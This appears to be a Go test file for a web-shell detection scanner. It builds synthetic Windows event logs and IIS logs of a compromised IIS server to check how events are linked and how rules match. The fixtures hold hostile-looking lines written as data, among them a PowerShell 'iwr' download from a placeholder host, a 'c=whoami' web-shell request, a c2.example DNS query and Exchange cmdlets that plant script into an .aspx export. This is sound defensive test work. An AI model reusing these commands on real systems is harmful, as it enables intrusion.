package scan_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"webshellscan/internal/evtxtest"
	"webshellscan/rules/builtin"
	"webshellscan/scan"
	"webshellscan/scan/event"
	"webshellscan/scan/finding"
	"webshellscan/scan/story"
)

// storyStart is when the web server process of the story began.
var storyStart = time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)

// The programs that take part, by image.
const (
	workerPath = `C:\Windows\System32\inetsrv\w3wp.exe`
	shell      = `C:\Windows\System32\cmd.exe`
	power      = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
)

// storyProcess is a process of the story.
type storyProcess struct {
	second      int
	pid, parent uint64
	image       string
	parentImage string
	line        string
	logon       uint64 // 0xAAAA is the pool's
	end         int    // 0 if it is not logged
}

// storyEvent is an event, and what is to be told of it.
type storyEvent struct {
	second   int
	host     string
	channel  string
	provider string
	id       uint16
	pid      uint32 // of the process that wrote it
	user     string // SID
	fields   string // "name=value" joined by |; names may be empty
	want     string // "category link process [rules]", "" if it is not told
}

// record returns the event as a log has it.
func (e *storyEvent) record() evtxtest.Event {
	ev := evtxtest.Event{
		Provider: evtxtest.Provider{Name: e.provider}, ID: e.id, Level: 4, Channel: e.channel, Computer: e.host, ProcessID: e.pid,
		Time: evtxtest.FileTimeOf(storyStart.Add(time.Duration(e.second) * time.Second)), Shape: evtxtest.ShapePlain,
	}
	if e.pid != 0 { // classic providers have no GUID, and name no process
		ev.Provider.GUID = evtxtest.MustGUID("A0C1853B-5C40-4B15-8766-3CF1C58F985A")
	}
	if e.user != "" {
		ev.UserID = evtxtest.MustSID(e.user)
	}
	for part := range strings.SplitSeq(e.fields, "|") {
		name, value, _ := strings.Cut(part, "=")
		ev.Payload.Fields = append(ev.Payload.Fields, evtxtest.Field{Name: name, Value: evtxtest.String(value)})
	}
	return ev
}

const (
	securityLog = "Security"
	auditing    = "Microsoft-Windows-Security-Auditing"
)

// storyEvents are events of a web server whose session runs cmd.exe (PID 200),
// whoami.exe (201), powershell.exe (202, until second 20) and, as SYSTEM,
// net.exe (203).
func storyEvents() []storyEvent {
	pool := event.PoolSID("shop")
	subject := "SubjectUserSid=" + pool + "|SubjectLogonId=0xaaaa"
	const admin = "SubjectUserSid=S-1-5-21-1-2-3-500|SubjectLogonId=0xbbbb"
	const page = `C:\inetpub\wwwroot\up\k.aspx`
	return []storyEvent{
		// By process ID: alive at that time, and the image agrees.
		{13, "WEB1", securityLog, auditing, 5156, 4, "", `ProcessID=202|Application=\device\harddiskvolume2\x\powershell.exe|Direction=%%14593|SourceAddress=10.0.0.5|SourcePort=5|DestAddress=203.0.113.9|DestPort=443|Protocol=6`, "network_connection pid+time 202"},
		{13, "WEB1", securityLog, auditing, 5156, 4, "", `ProcessID=202|Application=\device\harddiskvolume2\x\other.exe|Direction=%%14593|SourceAddress=10.0.0.5|DestAddress=203.0.113.8|DestPort=443`, ""},
		{25, "WEB1", securityLog, auditing, 5156, 4, "", `ProcessID=202|Application=\device\harddiskvolume2\x\powershell.exe|Direction=%%14593|SourceAddress=10.0.0.5|DestAddress=203.0.113.7|DestPort=443`, ""},
		{40, "WEB1", securityLog, auditing, 5156, 4, "", `ProcessID=202|Application=\device\harddiskvolume2\x\agent.exe|Direction=%%14593|SourceAddress=10.0.0.5|DestAddress=203.0.113.6|DestPort=443`, ""},
		{13, "DB1", securityLog, auditing, 5156, 4, "", `ProcessID=202|Application=\device\harddiskvolume2\x\powershell.exe|Direction=%%14593|SourceAddress=10.0.0.6|DestAddress=203.0.113.5|DestPort=443`, ""},
		{13, "WEB1", "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, 202, pool, `MessageNumber=1|MessageTotal=1|ScriptBlockText=iwr http://203.0.113.9/x|ScriptBlockId=a|Path=`, "ps_script pid+time 202 event_powershell_of_application_pool"},
		// The web server's own: only what a rule asks for.
		{14, "WEB1", securityLog, auditing, 5156, 4, "", `ProcessID=100|Application=\device\harddiskvolume2\x\w3wp.exe|Direction=%%14593|SourceAddress=10.0.0.5|DestAddress=10.0.0.9|DestPort=1433`, ""},
		{5, "WEB1", securityLog, auditing, 4663, 4, "", subject + `|ObjectServer=Security|ObjectType=File|ObjectName=` + page + `|AccessList=%%4417|AccessMask=0x2|ProcessId=0x64|ProcessName=` + workerPath, "file_access pid+time 100 event_audited_script_written_by_server"},
		{6, "WEB1", securityLog, auditing, 4663, 4, "", subject + `|ObjectServer=Security|ObjectType=File|ObjectName=` + page + `|AccessList=%%4416|AccessMask=0x1|ProcessId=0x64|ProcessName=` + workerPath, ""},
		// By logon session, unless others share it.
		{15, "WEB1", securityLog, auditing, 4720, 4, "", subject + `|TargetUserName=support$|TargetDomainName=WEB1`, "account logon 0 event_made_by_application_pool"},
		{15, "WEB1", securityLog, auditing, 4720, 4, "", admin + `|TargetUserName=intern|TargetDomainName=WEB1`, ""},
		{15, "WEB1", securityLog, auditing, 4720, 4, "", `SubjectUserSid=S-1-5-18|SubjectLogonId=0x3e7|TargetUserName=agent|TargetDomainName=WEB1`, ""},
		// By the pool's account, where no process is known.
		{16, "WEB1", "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, 999, pool, `MessageNumber=1|MessageTotal=1|ScriptBlockText=dir|ScriptBlockId=b|Path=`, "ps_script user 0 event_powershell_of_application_pool"},
		{16, "WEB1", "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, 998, event.PoolSID("other"), `MessageNumber=1|MessageTotal=1|ScriptBlockText=dir c:|ScriptBlockId=c|Path=`, "- ps_script none 0 event_powershell_of_application_pool"},
		{40, "WEB1", "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, 202, pool, `MessageNumber=1|MessageTotal=1|ScriptBlockText=dir d:|ScriptBlockId=d|Path=`, "- ps_script none 0 event_powershell_of_application_pool"},
		{16, "WEB1", sysmonLog, sysmonName, 22, 900, "S-1-5-18", `ProcessGuid={A0C1853B-0000-0000-0000-000000000001}|ProcessId=9990|QueryName=c2.example|QueryStatus=0|QueryResults=203.0.113.9;|Image=C:\ProgramData\b.exe|User=IIS APPPOOL\shop`, "dns_query user 0"},
		{16, "WEB1", sysmonLog, sysmonName, 22, 900, "S-1-5-18", `ProcessGuid={A0C1853B-0000-0000-0000-000000000002}|ProcessId=9991|QueryName=c3.example|QueryStatus=0|QueryResults=203.0.113.8;|Image=C:\ProgramData\b.exe|User=CORP\anna`, ""},
		{16, "WEB1", sysmonLog, sysmonName, 22, 900, "S-1-5-18", `ProcessGuid={A0C1853B-0000-0000-0000-000000000003}|ProcessId=9992|QueryName=db.example|QueryStatus=0|QueryResults=10.0.0.9;|Image=` + workerPath + `|User=IIS APPPOOL\shop`, ""},
		// By the whole path of what the session wrote.
		{17, "WEB1", securityLog, auditing, 4663, 4, "", subject + `|ObjectServer=Security|ObjectType=File|ObjectName=C:\ProgramData\x.exe|AccessList=%%4417|AccessMask=0x2|ProcessId=0xc8|ProcessName=` + shell, "file_access pid+time 200"},
		{17, "WEB1", securityLog, auditing, 4663, 4, "", subject + `|ObjectServer=Security|ObjectType=File|ObjectName=C:\ProgramData\y.txt|AccessList=%%4416|AccessMask=0x1|ProcessId=0xc8|ProcessName=NULL`, "file_access pid+time 200"},
		{18, "WEB1", "System", "Service Control Manager", 7045, 600, "S-1-5-18", `ServiceName=Upd|ImagePath=C:\ProgramData\x.exe -k|ServiceType=user mode service|StartType=auto start|AccountName=LocalSystem`, "service_install path 0"},
		{18, "WEB1", "System", "Service Control Manager", 7045, 600, "S-1-5-18", `ServiceName=Agent|ImagePath=C:\Other\x.exe|ServiceType=user mode service|StartType=auto start|AccountName=LocalSystem`, ""},
		{18, "WEB1", "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1116, 700, "S-1-5-18", `Threat Name=Backdoor:ASP/Webshell|Path=file:_` + page + `|Process Name=C:\x\agent.exe|Action Name=Quarantine`, "antivirus path 0 event_defender_web_shell"},
		{18, "WEB1", "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1116, 700, "S-1-5-18", `Threat Name=Virus:DOS/EICAR_Test_File|Path=file:_C:\Users\u\k.aspx.zip|Process Name=C:\x\agent.exe|Action Name=Quarantine`, ""},
		// By a thing that the session made.
		{19, "WEB1", securityLog, auditing, 4698, 4, "", subject + `|TaskName=\Upd|TaskContent=<Task><Command>C:\Windows\System32\calc.exe</Command></Task>`, "scheduled_task logon 0 event_made_by_application_pool"},
		{30, "WEB1", "Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 129, 800, "S-1-5-18", `TaskName=\Upd|Path=C:\Windows\System32\calc.exe|ProcessID=999|Priority=16384`, "scheduled_task path 0"},
		{30, "WEB1", "Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 129, 800, "S-1-5-18", `TaskName=\Corp\Inventory|Path=` + power + `|ProcessID=998|Priority=16384`, ""},
		// By the command line that an event holds.
		{12, "WEB1", "Windows PowerShell", "PowerShell", 400, 0, "", "=Available|=None|=\tHostName=ConsoleHost\r\n\tHostApplication=" + power + " -nop -c iwr\r\n\tEngineVersion=5.1", "ps_classic_start command 202"},
		{33, "WEB1", "Windows PowerShell", "PowerShell", 400, 0, "", "=Available|=None|=\tHostName=ConsoleHost\r\n\tHostApplication=" + power + " -nop -c iwr\r\n\tEngineVersion=5.1", ""},
		// By the address, on another host.
		{20, "DB1", securityLog, auditing, 4624, 4, "", `SubjectLogonId=0x3e7|TargetUserName=sa|TargetDomainName=CORP|LogonType=3|ProcessId=0x0|ProcessName=-|IpAddress=10.0.0.5`, "logon address 0"},
		{20, "DB1", securityLog, auditing, 4624, 4, "", `SubjectLogonId=0x3e7|TargetUserName=sb|TargetDomainName=CORP|LogonType=3|ProcessId=0x0|ProcessName=-|IpAddress=10.0.0.99`, ""},
		{200, "DB1", securityLog, auditing, 4624, 4, "", `SubjectLogonId=0x3e7|TargetUserName=sc|TargetDomainName=CORP|LogonType=3|ProcessId=0x0|ProcessName=-|IpAddress=10.0.0.5`, ""},
	}
}

// writeStory writes the logs of the story, with a web log beside those of WEB1,
// and returns the folder. Record IDs are 1 + the index of an event.
func writeStory(t *testing.T) string {
	t.Helper()
	pool := evtxtest.Account{SID: evtxtest.MustSID(event.PoolSID("shop")), Name: "shop", Domain: "IIS APPPOOL", LogonID: 0xAAAA}
	admin := evtxtest.Account{SID: evtxtest.MustSID("S-1-5-21-1-2-3-500"), Name: "adm", Domain: "WEB1", LogonID: 0xBBBB}
	system := evtxtest.Account{SID: evtxtest.MustSID("S-1-5-18"), Name: "SYSTEM", Domain: "NT AUTHORITY", LogonID: 0x3e7}
	accounts := map[uint64]evtxtest.Account{0xAAAA: pool, 0xBBBB: admin, 0x3e7: system}
	logs := make(map[string][]evtxtest.Event)
	at := func(second int) time.Time { return storyStart.Add(time.Duration(second) * time.Second) }
	add := func(host, channel string, ev evtxtest.Event, id int) {
		ev.RecordID = uint64(id)
		name := host + "/" + strings.NewReplacer("/", "%4").Replace(channel) + ".evtx"
		logs[name] = append(logs[name], ev)
	}
	for i, p := range []storyProcess{
		{0, 100, 50, workerPath, `C:\Windows\System32\svchost.exe`, `c:\windows\system32\inetsrv\w3wp.exe -ap "shop"`, 0xAAAA, 0},
		{10, 200, 100, shell, workerPath, `cmd.exe /c whoami`, 0xAAAA, 60},
		{11, 201, 200, `C:\Windows\System32\whoami.exe`, shell, `whoami`, 0xAAAA, 12},
		{12, 202, 200, power, shell, `"` + power + `" -nop -c iwr`, 0xAAAA, 20},
		{14, 203, 200, `C:\Windows\System32\net.exe`, shell, `net.exe start`, 0x3e7, 16},
		{28, 202, 600, `C:\x\agent.exe`, `C:\Windows\System32\services.exe`, `agent.exe`, 0x3e7, 0},
		{29, 300, 50, shell, `C:\Windows\explorer.exe`, `cmd.exe`, 0xBBBB, 0},
		{50, 301, 600, `C:\ProgramData\x.exe`, `C:\Windows\System32\services.exe`, `C:\ProgramData\x.exe -k`, 0x3e7, 0},
	} {
		add("WEB1", securityLog, evtxtest.NewEvent(at(p.second), "WEB1", &evtxtest.ProcessCreated{
			Subject: accounts[p.logon], NewProcessID: p.pid, NewProcessName: p.image, ProcessID: p.parent, CommandLine: p.line, ParentProcessName: p.parentImage,
		}), 1000+i)
		if p.end > 0 {
			add("WEB1", securityLog, evtxtest.NewEvent(at(p.end), "WEB1", &evtxtest.ProcessExited{Subject: accounts[p.logon], ProcessID: p.pid, ProcessName: p.image}), 1100+i)
		}
	}
	for i, e := range storyEvents() {
		add(e.host, e.channel, e.record(), i+1)
	}
	dir := t.TempDir()
	for name, events := range logs {
		slices.SortStableFunc(events, func(a, b evtxtest.Event) int { return int(a.Time) - int(b.Time) })
		writeLog(t, filepath.Join(dir, filepath.FromSlash(name)), evtxtest.Options{}, events)
	}
	var web strings.Builder
	web.WriteString("#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status time-taken\r\n")
	for second := -300; second < 300; second += 30 {
		fmt.Fprintf(&web, "%s GET /default.aspx - 10.1.1.%d Mozilla 200 40\r\n", at(second).Format(time.DateTime), (second+300)/30)
	}
	fmt.Fprintf(&web, "%s POST /Upload.aspx - 198.51.100.7 curl 200 40\r\n", at(5).Format(time.DateTime))
	fmt.Fprintf(&web, "%s POST /up/k%%2Easpx c=whoami 198.51.100.7 curl 200 2500\r\n", at(12).Format(time.DateTime))
	writeFile(t, filepath.Join(dir, "WEB1", "inetpub", "logs", "W3SVC1", "u_ex260302.log"), []byte(web.String()))
	return dir
}

func writeFile(t testing.TB, path string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
}

// eventsLog returns a folder with a log of events. The record of each has its
// number, from 1 on.
func eventsLog(t *testing.T, list []storyEvent) string {
	t.Helper()
	var events []evtxtest.Event
	for i := range list {
		ev := list[i].record()
		ev.RecordID = uint64(i + 1)
		events = append(events, ev)
	}
	return logFolder(t, "Forwarded.evtx", events)
}

// storyTexts renders the events of stories, by record ID: an event without a
// session begins with "- ".
func storyTexts(res *scan.Result) map[uint64]string {
	got := make(map[uint64]string)
	for _, e := range res.Events {
		text := fmt.Sprintf("%s %s %d", e.Category, e.Link, e.ProcessID*boolean(e.Process.Exists()))
		for _, r := range e.Rules {
			text += " " + r.Label()
		}
		if e.Session == nil {
			text = "- " + text
		}
		for _, r := range e.Evidence {
			got[r.RecordID] += text
		}
	}
	return got
}

func boolean(b bool) uint32 {
	if b {
		return 1
	}
	return 0
}

// TestStory: each event is tied by what it names, and by nothing less, whatever
// the number of goroutines.
func TestStory(t *testing.T) {
	dir := writeStory(t)
	for _, goroutines := range []int{1, 2, 8} {
		res, err := scan.Scan(t.Context(), scan.Options{Paths: []string{dir}, Goroutines: goroutines})
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Sessions) != 1 {
			t.Fatalf("%d sessions", len(res.Sessions))
		}
		got := storyTexts(res)
		for i, e := range storyEvents() {
			if got[uint64(i+1)] != e.want {
				t.Errorf("%d goroutines: %s %d at %d, %s: %q, want %q", goroutines, e.provider, e.id, e.second, e.fields, got[uint64(i+1)], e.want)
			}
		}
		checkStorySession(t, res.Sessions[0])
	}
}

// checkStorySession holds what else is told of the session.
func checkStorySession(t *testing.T, s *finding.Session) {
	t.Helper()
	var entries []string
	for _, p := range s.EntryPoints {
		entries = append(entries, fmt.Sprintf("%s %s %v %d of %d", p.Confidence, p.URI, p.Clients, p.Processes, p.OfProcesses))
	}
	if diff := cmp.Diff([]string{"likely /up/k%2Easpx [198.51.100.7] 1 of 1"}, entries); diff != "" {
		t.Errorf("entry points (-want +got):\n%s", diff)
	}
	var requests []string
	for _, r := range s.Requests {
		requests = append(requests, fmt.Sprintf("%s %v %d", r.URI, r.Entry, len(r.Processes)))
	}
	if diff := cmp.Diff([]string{"/Upload.aspx false 0", "/up/k%2Easpx true 1"}, requests); diff != "" {
		t.Errorf("requests (-want +got):\n%s", diff)
	}
	if len(s.Armed) != 1 || s.Armed[0].Process.PID() != 301 {
		t.Errorf("armed: %+v", s.Armed)
	}
	values := func(list []story.Indicator) (texts []string) {
		for _, i := range list {
			texts = append(texts, i.Value)
		}
		return texts
	}
	in := &s.Indicators
	want := [][]string{
		{`C:\inetpub\wwwroot\up\k.aspx`, `C:\ProgramData\x.exe`},
		{"198.51.100.7", "203.0.113.9"},
		{"http://203.0.113.9/x"},
		{"support$"},
		{"Upd"},
		{`\Upd`},
	}
	got := [][]string{values(in.Files), values(in.Addresses), values(in.URLs), values(in.Accounts), values(in.Services), values(in.Tasks)}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("indicators (-want +got):\n%s", diff)
	}
}

// TestEventRules: each built-in rule about events matches what it is for, and
// not what looks like it, on a host of which nothing else is known.
func TestEventRules(t *testing.T) {
	pool := event.PoolSID("shop")
	const (
		sysmon     = "Microsoft-Windows-Sysmon"
		sysmonLog  = "Microsoft-Windows-Sysmon/Operational"
		operations = "Microsoft-Windows-PowerShell/Operational"
		powershell = "Microsoft-Windows-PowerShell"
		defender   = "Microsoft-Windows-Windows Defender"
		exchange   = "MSExchange CmdletLogs"
		aspnet     = "ASP.NET 4.0.30319.0"
		deploy     = `C:\Program Files\IIS\Microsoft Web Deploy V3\msdeploy.exe`
	)
	file := func(image, name string) string {
		return "ProcessGuid={00000000-0000-0000-0000-000000000000}|ProcessId=9|Image=" + image + "|TargetFilename=" + name
	}
	audited := func(image, name, access string) string {
		return "SubjectUserSid=S-1-5-18|ObjectType=File|ObjectName=" + name + "|AccessList=" + access + "|ProcessId=0x9|ProcessName=" + image
	}
	page := func(code string, rest ...string) string { // the values of ASP.NET have no names
		values := make([]string, 22)
		values[0] = code
		copy(values[17:], rest)
		return "=" + strings.Join(values, "|=")
	}
	rows := []storyEvent{
		{0, "WEB2", sysmonLog, sysmon, 11, 4, "", file(workerPath, `D:\site\a.ashx`), "event_script_written_by_server"},
		{0, "WEB2", sysmonLog, sysmon, 11, 4, "", file(workerPath, `D:\site\a.png`), ""},
		{0, "WEB2", sysmonLog, sysmon, 11, 4, "", file(workerPath, `C:\Windows\Temporary ASP.NET Files\root\a.aspx`), ""},
		{0, "WEB2", sysmonLog, sysmon, 11, 4, "", file(`C:\x\ftpd.exe`, `C:\inetpub\wwwroot\a.aspx`), "event_script_written_below_web_root"},
		{0, "WEB2", sysmonLog, sysmon, 11, 4, "", file(`C:\x\ftpd.exe`, `D:\backup\a.aspx`), ""},
		{0, "WEB2", sysmonLog, sysmon, 11, 4, "", file(deploy, `C:\inetpub\wwwroot\b.aspx`), ""},
		{0, "WEB2", securityLog, auditing, 4663, 4, "", audited(workerPath, `D:\site\a.aspx`, "%%4417"), "event_audited_script_written_by_server"},
		{0, "WEB2", securityLog, auditing, 4663, 4, "", audited(workerPath, `D:\site\b.aspx`, "%%4416"), ""},
		{0, "WEB2", securityLog, auditing, 4663, 4, "", audited(`C:\x\ftpd.exe`, `C:\inetpub\a.aspx`, "%%4418"), "event_audited_script_written_below_web_root"},
		{0, "WEB2", securityLog, auditing, 4663, 4, "", audited(deploy, `C:\inetpub\c.aspx`, "%%4417"), ""},
		{0, "WEB2", operations, powershell, 4103, 9, pool, "Payload=x", "event_powershell_of_application_pool"},
		{0, "WEB2", operations, powershell, 4103, 9, "S-1-5-21-1-2-3-500", "Payload=x", ""},
		{0, "WEB2", "Windows PowerShell", "PowerShell", 600, 0, "", `=a|=b|=	HostApplication=c:\windows\system32\inetsrv\w3wp.exe -ap "shop"`, "event_powershell_in_web_server"},
		{0, "WEB2", "Windows PowerShell", "PowerShell", 600, 0, "", `=a|=b|=	HostApplication=c:\windows\system32\inetsrv\w3wp.exe -ap "MSExchangePowerShellAppPool"`, ""},
		{0, "WEB2", "Windows PowerShell", "PowerShell", 600, 0, "", `=a|=b|=	HostApplication=powershell.exe`, ""},
		{0, "WEB2", defender + "/Operational", defender, 1117, 9, "", `Threat Name=Trojan:Win32/X|Path=file:_C:\inetpub\a.aspx|Process Name=C:\x.exe`, "event_defender_web_shell"},
		{0, "WEB2", defender + "/Operational", defender, 1117, 9, "", `Threat Name=Trojan:Win32/X|Path=file:_C:\Temp\a.exe|Process Name=` + workerPath, "event_defender_web_server"},
		{0, "WEB2", defender + "/Operational", defender, 1117, 9, "", `Threat Name=Trojan:Win32/X|Path=file:_C:\Temp\b.exe|Process Name=C:\x.exe`, ""},
		{0, "WEB2", defender + "/Operational", defender, 5007, 9, "", `Threat Name=Backdoor:ASP/X|Path=file:_C:\Temp\b.exe`, ""},
		{0, "WEB2", "Application", aspnet, 1316, 0, "", page("4009"), "event_view_state_check_failed"},
		{0, "WEB2", "Application", aspnet, 1316, 0, "", page("4010"), ""},
		{0, "WEB2", "Application", aspnet, 1309, 0, "", page("3005", "HttpException", "Validation of viewstate MAC failed."), "event_view_state_check_failed"},
		{0, "WEB2", "Application", aspnet, 1309, 0, "", page("3005", "E", "m", "http://h/uploads/t.aspx?a", "/uploads/t.aspx"), "event_error_below_upload_folder"},
		{0, "WEB2", "Application", aspnet, 1309, 0, "", page("3005", "E", "m", "http://h/news/t.aspx", "/news/t.aspx"), ""},
		{0, "WEB2", "MSExchange Management", exchange, 1, 0, "", `=Set-OabVirtualDirectory|=-ExternalUrl "http://f/<script runat=server>"`, "event_exchange_script_in_url"},
		{0, "WEB2", "MSExchange Management", exchange, 1, 0, "", `=Set-OabVirtualDirectory|=-ExternalUrl "https://mail/OAB"`, ""},
		{0, "WEB2", "MSExchange Management", exchange, 1, 0, "", `=New-MailboxExportRequest|=-FilePath "\\h\c$\a.aspx"`, "event_exchange_writes_script"},
		{0, "WEB2", "MSExchange Management", exchange, 1, 0, "", `=New-MailboxExportRequest|=-FilePath "\\h\pst\a.pst"`, ""},
		{0, "WEB2", securityLog, auditing, 4697, 4, "", "SubjectUserSid=" + pool + "|ServiceName=x", "event_made_by_application_pool"},
		{0, "WEB2", securityLog, auditing, 4697, 4, "", "SubjectUserSid=S-1-5-18|ServiceName=y", ""},
		{0, "WEB2", "System", "Service Control Manager", 7045, 4, pool, "ServiceName=x", "event_service_by_application_pool"},
		{0, "WEB2", "System", "Service Control Manager", 7045, 4, "S-1-5-18", "ServiceName=y", ""},
		{0, "WEB2", sysmonLog, sysmon, 3, 4, "", `Image=C:\x\a.exe|User=IIS APPPOOL\shop|Initiated=true|DestinationIp=203.0.113.9`, "event_connection_of_application_pool"},
		{0, "WEB2", sysmonLog, sysmon, 3, 4, "", `Image=` + workerPath + `|User=IIS APPPOOL\shop|Initiated=true|DestinationIp=203.0.113.8`, ""},
		{0, "WEB2", sysmonLog, sysmon, 3, 4, "", `Image=C:\x\a.exe|User=IIS APPPOOL\shop|Initiated=true|DestinationIp=127.0.0.1`, ""},
	}
	res := mustScan(t, scan.Options{Paths: []string{eventsLog(t, rows)}})
	got, seen := make(map[uint64][]string), make(map[string]bool)
	for _, e := range res.Events {
		for _, r := range e.Evidence {
			for _, rule := range e.Rules {
				got[r.RecordID] = append(got[r.RecordID], rule.Label())
				seen[rule.Label()] = true
			}
		}
	}
	for i, row := range rows {
		if rules := strings.Join(got[uint64(i+1)], " "); rules != row.want {
			t.Errorf("%s %d, %s: %q, want %q", row.provider, row.id, row.fields, rules, row.want)
		}
	}
	for _, set := range res.Rules.Events {
		for _, r := range set.Set.Rules() {
			if !seen[r.Label()] && r.Role != builtin.RoleTrace { // those have a test of their own
				t.Errorf("no row is for %s", r.Label())
			}
		}
	}
}
